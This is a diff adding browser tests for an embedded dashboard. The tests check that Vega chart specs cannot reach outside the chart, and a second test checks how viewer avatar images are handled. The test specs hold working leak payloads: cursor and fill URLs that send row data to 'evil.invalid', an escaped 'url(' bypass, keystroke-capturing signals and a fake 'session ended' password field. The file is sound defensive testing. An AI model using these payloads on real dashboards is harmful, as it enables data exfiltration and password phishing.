@@ -144,3 +144,141 @@ test.each([
   if (!isParsed) expect(embedding.errors.filter((text) => /Content Security Policy/.test(text))).toEqual([]);
   await embedding.close();
 });
+
+/** Colours and pointers whose addresses hold rows, form fields, and ears outside of the chart. */
+const ROWS = "encodeURIComponent(pluck(data('rows'),'sales__amount'))";
+const [BAR] = BARS.marks;
+const painted = (more: object) => [
+  { ...BAR!, encode: { update: { ...BAR!.encode.update, ...more } } },
+  // Says that the chart heard the pointer, and what it heard besides.
+  {
+    type: 'text',
+    encode: {
+      update: { y: { value: 20 }, fill: { value: '#333' }, text: { signal: "moved + ':' + heard" } },
+    },
+  },
+];
+const SIGNALS = [
+  { name: 'moved', value: 'still', on: [{ events: 'pointermove', update: "'moved'" }] },
+  {
+    name: 'heard',
+    value: '',
+    on: [
+      { events: 'window:keydown', update: 'heard + event.key' },
+      { events: 'body:pointermove', update: "heard + 'body'" },
+      { events: '.head:pointermove', update: "heard + 'head'" },
+      { events: { type: 'timer', throttle: 1 }, update: "heard + 'timer'" },
+    ],
+  },
+];
+const OUTSIDE = {
+  'a pointer of the whole chart': {
+    signals: [
+      ...SIGNALS,
+      { name: 'cursor', update: `'url("https://evil.invalid/a.png?d=' + ${ROWS} + '"), auto'` },
+    ],
+    config: { events: { globalCursor: true, window: true, selector: true } },
+    marks: painted({}),
+  },
+  'a pointer of a mark': {
+    signals: SIGNALS,
+    marks: painted({
+      cursor: { signal: "'url(https://evil.invalid/b.png?d=' + datum.sales__amount + '), auto'" },
+    }),
+  },
+  colours: {
+    signals: SIGNALS,
+    marks: painted({
+      fill: { signal: "'url(https://evil.invalid/c.svg?' + datum.sales__amount + '#a)'" },
+      stroke: { value: '\\75rl(https://evil.invalid/d.svg#a)' },
+    }),
+  },
+  'form fields': {
+    signals: [
+      ...SIGNALS,
+      {
+        name: 'p',
+        value: 'x',
+        bind: { input: 'image', src: 'https://evil.invalid/e.png', element: '.head' },
+      },
+      { name: 'q', value: '', bind: { input: 'password', name: 'Your session has ended. Password' } },
+    ],
+    config: { events: { bind: 'any' } },
+    marks: painted({}),
+  },
+};
+
+test.each(Object.entries(OUTSIDE))('%s of a spec can not reach outside of the chart', async (_what, more) => {
+  const dashboard = graphical(deploymentId, 'shown');
+  Object.assign(dashboard.reportSnapshots[0]!, { spec: { ...BARS, ...more } });
+  const body = { deploymentId, externalId: unique('viewer') };
+  const { sessionId } = await world.admin.generateSession({ body });
+  const embedding = await embed(
+    browser,
+    host.origin,
+    [`${world.url}/embed/dashboard/shown#session=${sessionId}`],
+    {
+      prepare: withDashboards({ shown: dashboard }),
+    },
+  );
+  await embedding.heard('dashboard-loaded');
+  const frame = embedding.frame();
+  await frame.locator('.head').hover();
+  await embedding.page.keyboard.type('secret');
+  await frame.locator('.vega .mark-rect.role-mark path').last().hover({ force: true });
+  await frame.locator('.vega svg').hover();
+  await expect.poll(() => frame.locator('.vega .mark-text.role-mark').first().textContent()).toBe('moved:');
+  expect(await frame.locator('#page :is(form, input, [fill*=rl], [stroke*=rl])').count()).toBe(0);
+  expect(await frame.locator('[style*=cursor]').count()).toBe(0);
+  const origins = new Set(embedding.requests.map((url) => new URL(url).origin));
+  expect([...origins].sort()).toEqual([new URL(world.url).origin, host.origin].sort());
+  expect(embedding.errors).toEqual([]);
+  await embedding.close();
+});
+
+test.each([
+  ['image/png', 1000, true],
+  ['image/svg+xml', 1000, false],
+  ['image/png', 1_100_000, false],
+] as const)('a picture of a viewer of the type %s and %i bytes', async (contentType, length, isShown) => {
+  const picture = 'https://pictures.invalid/ada.png';
+  const userProfile = { displayName: 'Ada Lovelace', picture };
+  const body = { deploymentId, externalId: unique('viewer'), userProfile };
+  const { sessionId } = await world.admin.generateSession({ body });
+  const asked: (string | undefined)[] = [];
+  const pixel =
+    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYPj/HwADAgH/p5FhpwAAAABJRU5ErkJggg==';
+  const drawing = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>';
+  const start = contentType === 'image/png' ? Buffer.from(pixel, 'base64') : Buffer.from(drawing);
+  const file = Buffer.concat([start, Buffer.alloc(length, ' ')]);
+  const embedding = await embed(
+    browser,
+    host.origin,
+    [`${world.url}/embed/dashboard/shown#session=${sessionId}`],
+    {
+      async prepare(context) {
+        await withDashboards({ shown: tabular(deploymentId, 'shown') })(context);
+        await context.route(picture, (route) => {
+          asked.push(route.request().headers().referer);
+          const headers = { 'access-control-allow-origin': '*' };
+          return route.fulfill({ headers, contentType, body: file });
+        });
+      },
+    },
+  );
+  await embedding.heard('dashboard-loaded');
+  const frame = embedding.frame();
+  const avatar = frame.locator('.avatar');
+  await expect.poll(() => asked).toEqual([undefined]);
+  if (isShown) {
+    await avatar.locator('img[src^="blob:"]').waitFor();
+    const width = () => frame.evaluate(`document.querySelector('.avatar img').naturalWidth`);
+    await expect.poll(width).toBe(1);
+  } else {
+    await embedding.act('set-color-scheme', { scheme: 'dark' });
+    await frame.locator('html[data-scheme=dark]').waitFor();
+    expect(await avatar.innerText()).toBe('AL');
+  }
+  expect(embedding.errors).toEqual([]);
+  await embedding.close();
+});
